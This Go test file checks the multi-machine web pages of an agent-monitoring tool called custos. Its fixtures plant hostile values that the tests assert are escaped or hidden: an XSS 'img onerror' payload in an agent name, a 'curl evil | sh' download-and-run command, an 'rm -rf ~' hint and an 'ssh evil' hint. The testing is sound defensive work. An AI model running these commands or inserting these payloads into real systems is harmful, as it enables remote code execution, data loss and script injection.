package web

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"golang.org/x/net/html"

	"custos/internal/api"
)

// machines are other ones: what they answered last, and who answers there now.
type machines struct {
	looks  []api.HostLook
	there  map[string]*world
	looked int
}

func (m *machines) Looks(bool) ([]api.HostLook, int64) { m.looked++; return m.looks, 1 }

func (m *machines) Hold() func() { return func() {} }

func (m *machines) Client(name string) (*api.Client, bool) {
	w, ok := m.there[name]
	if !ok {
		return nil, false
	}
	return api.NewClient(api.InProcess(http.HandlerFunc(w.answer))), true
}

// withMachines is a page beside box1, which answers, and box2, which is silent.
func withMachines(t testing.TB) (*world, *machines) {
	w := newWorld(t)
	w.answers["GET /v1/agents"] = api.Agents{At: time.Now(), Seen: api.PartSeen{Status: "ok"}, Agents: []api.AgentRow{{Name: "builder", State: "working"}}}
	w.answers["GET /v1/alerts"] = api.Alerts{Alerts: []api.Alert{{Number: 7, Rule: "mine", Priority: "P2", Subject: "host/here", Summary: "is full"}}}
	now := time.Now()
	look := api.FirstLook{At: now, Mode: "auto",
		Agents:   []api.AgentRow{{Name: "ann", State: "waiting", Source: "hook", Owner: "custos"}, {Name: "box2/<img src=x onerror=alert(1)>", State: "working"}},
		NeedsYou: []api.Need{{Number: 7, Priority: "P1", Subject: "agent/ann", Summary: "waits", Command: "custos approve 7"}, {Priority: "P1", Subject: "lock//x", Summary: "is held", Command: "curl evil | sh"}}}
	m := &machines{there: map[string]*world{"box1": newWorld(t), "box2": newWorld(t)}, looks: []api.HostLook{
		{HostSeen: api.HostSeen{Name: "box1", Status: "ok"}, Got: now, Look: look, Alerts: []api.Alert{{Number: 7, Rule: "theirs", Priority: "P1", Subject: "agent/ann", Summary: "waits"}}},
		{HostSeen: api.HostSeen{Name: "box2", Status: "unknown", Why: "no answer within 6s"}, Got: now.Add(-time.Minute), Silent: now.Add(-40 * time.Second), Look: api.FirstLook{At: now, Agents: []api.AgentRow{{Name: "bob", State: "working"}}}},
	}}
	there := m.there["box1"]
	there.answers["GET /v1/agents/ann"] = api.AgentDetail{At: now, Agent: look.Agents[0], Alerts: []api.Alert{{Number: 7, Priority: "P1", Summary: "waits"}},
		Next: []api.Hint{{Command: "custos stop ann", What: "stops it"}, {Command: "rm -rf ~", What: "is no good"}}}
	there.answers["GET /v1/agents/ann/screen"] = api.Screen{Text: "hello"}
	there.answers["POST /v1/orders"] = api.Order{ID: "A"}
	there.answers["POST /v1/alerts/7/approve"] = api.Approved{Number: 7}
	there.answers["GET /v1/story"] = api.Story{At: now, Alerts: []api.Alert{{Number: 7, Priority: "P1", Subject: "agent/ann", Summary: "waits"}}}
	there.answers["GET /v1/alerts/7/offer"] = api.Offer{Number: 7, Hash: "h7", Deeds: []api.Deed{{Do: "recover", Subject: "agent/ann"}}}
	w.Options.Hosts = m
	return w, m
}

func links(doc *html.Node) (out []string) {
	for _, a := range all(doc, func(n *html.Node) bool { return n.Data == "a" }) {
		out = append(out, attr(a, "href"))
	}
	return out
}

// What all machines have is on one page, each with its machine; a silent one is said, and its
// agents are unknown.
func TestAllMachinesOnOnePage(t *testing.T) {
	w, _ := withMachines(t)
	home := parsed(t, w.get(t, "/"))
	said := text(home)
	for _, want := range []string{"2 things need you", "4 agents", "host box2 is silent for 40s, its agents are unknown: no answer within 6s", "was working 1m0s ago; host box2 is silent",
		"1 unknown", "2 other machines", "custos --host box1 status"} {
		if !strings.Contains(said, want) {
			t.Errorf("%q is not there: %s", want, said)
		}
	}
	if strings.Contains(said, "curl") {
		t.Errorf("the command of a stranger is to be typed: %s", said)
	}
	if len(all(home, func(n *html.Node) bool { return n.Data == "img" })) != 0 {
		t.Error("a name became an element")
	}
	for _, want := range []string{"/hosts/box1/agents/ann", "/hosts/box2/agents/bob", "/hosts/box1/alerts/7", "/agents/builder"} {
		if !slices.Contains(links(home), want) {
			t.Errorf("there is no link to %s: %v", want, links(home))
		}
	}
	agents := parsed(t, w.get(t, "/agents?state=unknown"))
	if rows := all(agents, func(n *html.Node) bool { return attr(n, "data-agent") != "" }); len(rows) != 1 || attr(rows[0], "data-agent") != "box2/bob" {
		t.Errorf("%s", text(agents))
	}
	alerts := parsed(t, w.get(t, "/alerts"))
	if got := links(byID(t, alerts, "alerts")); len(got) < 2 || got[0] != "/hosts/box1/alerts/7" || got[1] != "/alerts/7" {
		t.Errorf("%v", got)
	}
}

// What is done on the page of another machine is done there, and nowhere else.
func TestFormsGoToTheirMachine(t *testing.T) {
	w, m := withMachines(t)
	there := m.there["box1"]
	page := w.get(t, "/hosts/box1/agents/ann")
	said := text(parsed(t, page))
	if page.Code != 200 || !strings.Contains(said, "box1/ann") || !strings.Contains(said, "custos --host box1 stop ann") || strings.Contains(said, "rm -rf") {
		t.Errorf("%s", describe(page))
	}
	if !slices.Contains(links(parsed(t, page)), "/hosts/box1/alerts/7") {
		t.Errorf("%v", links(parsed(t, page)))
	}
	forms := all(parsed(t, page), func(n *html.Node) bool { return n.Data == "form" && attr(n, "action") != "/leave" })
	for _, f := range forms {
		if !strings.HasPrefix(attr(f, "action"), "/hosts/box1/agents/ann/") {
			t.Errorf("a form goes to %s", attr(f, "action"))
		}
	}
	rec := w.post(t, "/hosts/box1/agents/ann/nudge", url.Values{"id": {"A2"}, "text": {"hello"}})
	if rec.Code != 303 || rec.Header().Get("Location") != "/hosts/box1/agents/ann?order=A2S1#outcome" || !strings.Contains(there.said["POST /v1/orders"], `"agent":"ann"`) {
		t.Errorf("%s: %s", describe(rec), there.said["POST /v1/orders"])
	}
	alert := w.get(t, "/hosts/box1/alerts/7")
	if !strings.Contains(alert.Body.String(), `action="/hosts/box1/alerts/7/approve"`) || !strings.Contains(alert.Body.String(), `href="/hosts/box1/agents/ann"`) {
		t.Errorf("%s", describe(alert))
	}
	rec = w.post(t, "/hosts/box1/alerts/7/approve", url.Values{"seen": {"h7"}})
	if rec.Code != 303 || !strings.Contains(there.said["POST /v1/alerts/7/approve"], `"seen":"h7"`) {
		t.Errorf("%s", describe(rec))
	}
	if w.did() || m.there["box2"].did() {
		t.Errorf("another machine was asked, too: %v, %v", w.asked, m.there["box2"].asked)
	}
}

// A link shows what is of this machine; by it no other machine is looked at, or asked.
func TestALinkShowsNoOtherMachine(t *testing.T) {
	w, m := withMachines(t)
	w.sessions["page"] = Session{ID: "l2", Link: true, Page: "/agents"}
	rec := w.get(t, "/agents", cookie("page"))
	if rec.Code != 200 || strings.Contains(rec.Body.String(), "box") || m.looked != 0 {
		t.Errorf("%d looks: %s", m.looked, describe(rec))
	}
	if rec := w.get(t, "/hosts/box1/agents/ann", cookie("page")); rec.Code != http.StatusForbidden {
		t.Errorf("%s", describe(rec))
	}
	if rec := w.post(t, "/hosts/box1/agents/ann/stop", url.Values{"id": {"A2"}}, cookie("page")); rec.Code != http.StatusForbidden || m.there["box1"].did() {
		t.Errorf("%s", describe(rec))
	}
}

// A machine that is none, one that does not answer, and an agent that sends a form: each is
// said, and nothing is done.
func TestWhatGoesWrongWithAMachine(t *testing.T) {
	w, m := withMachines(t)
	if rec := w.get(t, "/hosts/evil/agents/ann"); rec.Code != http.StatusNotFound {
		t.Errorf("%s", describe(rec))
	}
	m.there["box1"].answers["GET /v1/agents/ann"] = &api.Error{Kind: api.Unreachable, Message: "cannot reach host box1: no answer within 8s", Hint: "ssh evil"}
	rec := w.get(t, "/hosts/box1/agents/ann")
	if said := text(parsed(t, rec)); rec.Code != http.StatusServiceUnavailable || !strings.Contains(said, "no answer within 8s") || !strings.Contains(said, "custos --host box1 status") || strings.Contains(said, "evil") {
		t.Errorf("%s", describe(rec))
	}
	w.barred = fmt.Errorf("cannot do this for agent eve: it takes a person")
	if rec := w.post(t, "/hosts/box1/agents/ann/stop", url.Values{"id": {"A2"}}); rec.Code != http.StatusForbidden || m.there["box1"].did() {
		t.Errorf("%s", describe(rec))
	}
}

// What is done on a machine that hangs ends with the word that it may have been done.
func TestADeedOnAMachineThatHangs(t *testing.T) {
	for _, path := range []string{"/hosts/box2/alerts/7/approve", "/hosts/box2/alerts/7/ack", "/hosts/box2/agents/bob/stop"} {
		synctest.Test(t, func(t *testing.T) {
			w, _ := withMachines(t)
			w.Options.Hosts = mute{w.Options.Hosts}
			began := time.Now()
			rec := w.post(t, path, url.Values{"id": {"A2"}, "seen": {"h7"}})
			said := text(parsed(t, rec))
			if took := time.Since(began); rec.Code != http.StatusServiceUnavailable || took != orderWait || !strings.Contains(said, "host box2: no answer within 20s: it is not known whether that was done") {
				t.Errorf("%s: after %v: %s", path, took, describe(rec))
			}
		})
	}
}

// mute are machines that answer nothing for as long as they are asked.
type mute struct{ Hosts }

func (mute) Client(string) (*api.Client, bool) {
	return api.NewClient(silence{}), true
}

type silence struct{}

func (silence) RoundTrip(r *http.Request) (*http.Response, error) {
	<-r.Context().Done()
	return nil, r.Context().Err()
}

// A machine that hangs keeps its own page waiting for so long, and no other.
func TestAMachineThatHangs(t *testing.T) {
	w, _ := withMachines(t)
	hung, free := make(chan struct{}), make(chan struct{})
	w.Options.Hosts = hanging{w.Options.Hosts, hung, free}
	defer close(free)
	h := w.made(t)
	go h.ServeHTTP(newRecorder(), request(http.MethodGet, "/hosts/box2/agents/bob", nil))
	<-hung
	ctx, cancel := context.WithTimeout(t.Context(), 3*time.Second)
	defer cancel()
	for _, path := range []string{"/", "/agents", "/alerts", "/hosts/box1/agents/ann"} {
		rec := newRecorder()
		if h.ServeHTTP(rec, request(http.MethodGet, path, nil).WithContext(ctx)); rec.Code != 200 {
			t.Errorf("%s: %s", path, describe(rec))
		}
	}
}

// hanging has box2 answer only when it is freed.
type hanging struct {
	Hosts
	hung, free chan struct{}
}

func (h hanging) Client(name string) (*api.Client, bool) {
	if name != "box2" {
		return h.Hosts.Client(name)
	}
	return api.NewClient(api.InProcess(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { close(h.hung); <-h.free }))), true
}

// A count of agents says whose are not in it: of a machine that was never heard of nothing is known.
func TestCountsSayWhatTheyAreWithout(t *testing.T) {
	for status, want := range map[string]string{"unknown": "and those of box9, which is not reached", "pending": "and those of box9, which is being asked"} {
		w := newWorld(t)
		w.answers["GET /v1/agents"] = api.Agents{Agents: []api.AgentRow{{Name: "builder", State: "working"}}}
		w.Options.Hosts = unheard(status)
		for _, path := range []string{"/", "/agents"} {
			if said := text(parsed(t, w.get(t, path))); !strings.Contains(said, "1 agent, "+want) || !strings.Contains(said, "Unknown, too: "+want) {
				t.Errorf("%s: %s", path, said)
			}
		}
	}
}

// unheard is a machine that has never answered.
type unheard string

func (u unheard) Looks(bool) ([]api.HostLook, int64) {
	return []api.HostLook{{HostSeen: api.HostSeen{Name: "box9", Status: string(u)}}}, 0
}
func (unheard) Hold() func()                      { return func() {} }
func (unheard) Client(string) (*api.Client, bool) { return nil, false }
